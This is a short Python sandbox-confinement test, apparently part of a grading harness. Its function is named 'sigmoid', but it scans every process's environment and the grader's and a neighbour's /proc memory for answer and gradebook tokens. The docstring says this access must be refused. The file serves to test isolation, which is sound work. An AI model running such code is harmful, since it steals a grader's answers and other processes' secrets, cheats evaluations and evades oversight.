"""Reads memory of this process, its parent and everybody else below /proc.

Seen: `/proc/<pid>/mem` of the grader holds the answers.
Must: refused; nothing leaks.
Without confinement: leaks
"""

import glob
import re


def sigmoid(x):
    pattern = re.compile(rb"(?:reference|gradebook|environment|submission|home)-[0-9a-f]{16}")
    for environment in ["/proc/@GRADER@/environ", *glob.glob("/proc/[0-9]*/environ")]:
        try:
            with open(environment, "rb") as file:
                print(pattern.findall(file.read())[:3])
        except OSError as error:
            print(error.errno)
    for pid in ("self", "@GRADER@", "@NEIGHBOUR@"):
        try:
            maps = open(f"/proc/{pid}/maps", encoding="utf-8").read()
            memory = open(f"/proc/{pid}/mem", "rb", 0)
            for line in maps.split("\n")[:200]:
                span = re.match(r"([0-9a-f]+)-([0-9a-f]+) rw", line)
                if span:
                    first, last = (int(part, 16) for part in span.groups())
                    memory.seek(first)
                    print(pattern.findall(memory.read(min(last - first, 1 << 24)))[:5])
        except (OSError, ValueError) as error:
            print(pid, error)
    return x
